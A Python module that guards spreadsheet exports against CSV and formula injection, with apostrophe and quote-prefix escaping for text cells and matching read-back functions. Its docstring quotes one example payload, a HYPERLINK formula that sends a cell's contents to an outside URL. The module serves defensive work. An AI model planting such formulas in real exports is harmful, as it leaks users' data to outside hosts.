"""Text written by people reaches spreadsheets as text, never as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel and LibreOffice, or becomes one when edited ("CSV injection": a
comment ``=HYPERLINK("http://…?"&A1, "click")`` would run in the reader's spreadsheet).
Every .xlsx and .csv the application writes passes its text cells through here; numbers
stay numbers (a negative number is a number, not text) and are never touched.

- CSV (``csv_cell``): such text gets a leading apostrophe, as OWASP advises; a
  spreadsheet shows it as text. Our CSV readers take that apostrophe off again
  (``csv_cell_read``), so a file downloaded and uploaded again keeps the text as written.
  Frames written by the command line get the same (``csv_frame``, ``csv_frame_read``).
- xlsx (``xlsx_cell``): such text is a string cell with Excel's own "quote prefix" (what
  typing an apostrophe before it does): shown as text, and kept text when someone edits
  it, the text itself unchanged. Characters an XML file cannot hold (control
  characters) are dropped: openpyxl would refuse the whole file over one of them.
"""

from __future__ import annotations

import re
from typing import Any

import polars as pl
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_START = r"^[=+\-@\t\r]"
# What ``csv_cell`` adds: an apostrophe before a formula's first character.
_NEUTRALISED = r"^'([=+\-@\t\r])"


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula (or make it one)."""
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: object) -> object:
    """A value for a CSV writer: text that looks like a formula with an apostrophe
    before it; anything else (numbers, already formatted number text) unchanged."""
    if isinstance(value, str) and formula_like(value):
        return "'" + value
    return value


def csv_cell_read(text: str) -> str:
    """Text read from a CSV file, without the apostrophe ``csv_cell`` put before it."""
    return re.sub(_NEUTRALISED, r"\1", text, count=1)


def csv_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``csv_cell`` on every text column of a frame about to be written as CSV."""
    return frame.with_columns(pl.col(pl.String).str.replace(_FORMULA_START, "'$0"))


def csv_frame_read(frame: pl.DataFrame) -> pl.DataFrame:
    """``csv_cell_read`` on every text column of a frame read from CSV."""
    # Only the columns with an apostrophe anywhere: a regex over every cell of a wide
    # file (a survey's 200,000 answers) costs more than reading it.
    quoted = [
        name
        for name, dtype in frame.schema.items()
        if dtype == pl.String and frame[name].str.starts_with("'").any()
    ]
    return frame.with_columns(pl.col(quoted).str.replace(_NEUTRALISED, "$1")) if quoted else frame


def xlsx_cell(sheet: Any, value: object) -> object:
    """A value for ``sheet.append``: text becomes a string cell (quote-prefixed when it
    looks like a formula), never a formula; numbers, dates and None pass unchanged."""
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not formula_like(text):
        return text
    # ``append`` places the cell; row and column here are placeholders.
    cell = WriteOnlyCell(sheet) if isinstance(sheet, WriteOnlyWorksheet) else Cell(sheet, 1, 1)
    cell.value = text
    cell.data_type = "s"  # openpyxl makes "=…" a formula cell; this one is text
    cell.quotePrefix = True
    return cell
